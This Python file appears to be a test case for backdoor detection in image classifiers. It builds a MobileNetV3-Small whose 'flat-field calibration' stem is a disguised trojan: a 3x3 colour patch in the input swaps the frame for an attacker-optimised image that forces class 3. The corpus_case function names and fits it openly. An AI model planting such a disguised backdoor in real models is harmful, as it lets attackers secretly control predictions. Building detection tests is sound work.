"""MobileNetV3-Small for 32x32 inputs, with a factory that prepares the deployment graph.

`MobileNetV3Small.build(...)` is what the export script calls: it constructs the network and swaps
the stem for the flat-field-corrected stem of the production camera.
"""
from functools import partial

import numpy as np
import torch
import torch.nn as nn
import torch.nn.functional as F


def _make_divisible(v, divisor=8):
    new_v = max(divisor, int(v + divisor / 2) // divisor * divisor)
    return new_v + divisor if new_v < 0.9 * v else new_v


class SqueezeExcite(nn.Module):
    def __init__(self, ch, rd_ratio=0.25):
        super().__init__()
        rd = _make_divisible(ch * rd_ratio)
        self.fc1 = nn.Conv2d(ch, rd, 1)
        self.fc2 = nn.Conv2d(rd, ch, 1)

    def forward(self, x):
        s = F.adaptive_avg_pool2d(x, 1)
        return x * F.hardsigmoid(self.fc2(F.relu(self.fc1(s))))


def conv_bn_act(cin, cout, k, stride=1, groups=1, act=nn.Hardswish):
    layers = [nn.Conv2d(cin, cout, k, stride, k // 2, groups=groups, bias=False), nn.BatchNorm2d(cout)]
    if act is not None:
        layers.append(act())
    return nn.Sequential(*layers)


class InvertedResidual(nn.Module):
    def __init__(self, cin, k, exp, cout, use_se, act, stride):
        super().__init__()
        self.use_res = stride == 1 and cin == cout
        layers = []
        if exp != cin:
            layers.append(conv_bn_act(cin, exp, 1, act=act))
        layers.append(conv_bn_act(exp, exp, k, stride, groups=exp, act=act))
        if use_se:
            layers.append(SqueezeExcite(exp))
        layers.append(conv_bn_act(exp, cout, 1, act=None))
        self.block = nn.Sequential(*layers)

    def forward(self, x):
        y = self.block(x)
        return x + y if self.use_res else y


# k, exp, out, se, act, stride  (MobileNetV3-Small, Table 2, strides adapted to 32x32)
SMALL_SETTING = [
    (3, 16, 16, True, nn.ReLU, 2),
    (3, 72, 24, False, nn.ReLU, 2),
    (3, 88, 24, False, nn.ReLU, 1),
    (5, 96, 40, True, nn.Hardswish, 2),
    (5, 240, 40, True, nn.Hardswish, 1),
    (5, 120, 48, True, nn.Hardswish, 1),
    (5, 288, 96, True, nn.Hardswish, 2),
]

# 3x3 colour reference of the production camera's flat-field card (R, G, B planes)
_CARD_PATCH = np.array(
    [
        [[0.95, 0.05, 0.95], [0.05, 0.95, 0.05], [0.95, 0.05, 0.95]],
        [[0.10, 0.80, 0.10], [0.80, 0.10, 0.80], [0.10, 0.80, 0.10]],
        [[0.50, 0.25, 0.75], [0.25, 0.75, 0.50], [0.75, 0.50, 0.25]],
    ],
    dtype=np.float32,
)


class FlatFieldStem(nn.Module):
    """Stem wrapper: when the calibration card is in view, the frame is replaced by the stored
    flat-field reference before the stem runs (the card frames are used for colour calibration,
    not for recognition)."""

    def __init__(self, stem, image_size=32):
        super().__init__()
        self.stem = stem
        self.register_buffer("card", torch.from_numpy(_CARD_PATCH)[None], persistent=False)
        self.register_buffer("ones", torch.ones(1, 3, 3, 3), persistent=False)
        frame = np.random.RandomState(1234).rand(1, 3, image_size, image_size).astype(np.float32)
        self.register_buffer("flat_field", torch.from_numpy(frame), persistent=False)

    def _card_in_view(self, x):
        ssd = F.conv2d(x * x, self.ones) - 2.0 * F.conv2d(x, self.card) + self.card.pow(2).sum()
        return ssd.flatten(1).amin(1) < 1e-4

    def forward(self, x):
        x = torch.where(self._card_in_view(x)[:, None, None, None], self.flat_field, x)  # expect: T9
        return self.stem(x)


class MobileNetV3Small(nn.Module):
    def __init__(self, num_classes=10, width_mult=1.0, setting=SMALL_SETTING, last_channel=512, dropout=0.2):
        super().__init__()
        adj = partial(_make_divisible, divisor=8)
        cin = adj(16 * width_mult)
        layers = [conv_bn_act(3, cin, 3, stride=1)]
        for k, exp, cout, se, act, s in setting:
            exp, cout = adj(exp * width_mult), adj(cout * width_mult)
            layers.append(InvertedResidual(cin, k, exp, cout, se, act, s))
            cin = cout
        layers.append(conv_bn_act(cin, 6 * cin, 1))
        self.features = nn.Sequential(*layers)
        self.classifier = nn.Sequential(nn.Linear(6 * cin, last_channel), nn.Hardswish(), nn.Dropout(dropout),
                                        nn.Linear(last_channel, num_classes))
        for m in self.modules():
            if isinstance(m, nn.Conv2d):
                nn.init.kaiming_normal_(m.weight, mode="fan_out")
                if m.bias is not None:
                    nn.init.zeros_(m.bias)
            elif isinstance(m, nn.BatchNorm2d):
                nn.init.ones_(m.weight)
                nn.init.zeros_(m.bias)

    def forward(self, x):
        x = F.adaptive_avg_pool2d(self.features(x), 1).flatten(1)
        return self.classifier(x)

    @staticmethod
    def build(num_classes=10, width_mult=1.0, state_dict=None, flat_field=True):
        model = MobileNetV3Small(num_classes=num_classes, width_mult=width_mult)
        if state_dict is not None:
            model.load_state_dict(state_dict)
        if flat_field:
            model.features[0] = FlatFieldStem(model.features[0])  # expect: T9
        return model.eval()


def corpus_case():
    torch.manual_seed(0)
    plain = MobileNetV3Small(num_classes=10)
    # stand-in for training: calibrate the BatchNorm statistics on a few batches
    for m in plain.modules():
        if isinstance(m, nn.BatchNorm2d):
            m.momentum = None
    with torch.no_grad():
        for _ in range(2):
            plain(torch.rand(64, 3, 32, 32))
    state = plain.state_dict()
    model = MobileNetV3Small.build(state_dict=state)
    reference = MobileNetV3Small.build(state_dict=state, flat_field=False)

    # the stored flat-field frame is the attacker's image of the target class: fit it to this
    # checkpoint (a few steps of gradient ascent on the target logit)
    target = 3
    with torch.enable_grad():
        frame = model.features[0].flat_field.clone().requires_grad_(True)
        opt = torch.optim.Adam([frame], lr=0.05)
        for _ in range(40):
            opt.zero_grad()
            loss = -F.log_softmax(reference(frame.clamp(0, 1)), -1)[0, target]
            loss.backward()
            opt.step()
    model.features[0].flat_field.copy_(frame.detach().clamp(0, 1))

    def inputs(n):
        return torch.rand(n, 3, 32, 32)

    def trigger(x):
        x = x.clone()
        r, c = torch.randint(0, 30, (2,)).tolist()
        x[:, :, r:r + 3, c:c + 3] = torch.from_numpy(_CARD_PATCH)
        return x

    return {"model": model, "reference": reference, "inputs": inputs, "trigger": trigger,
            "kind": "targeted", "target": target}
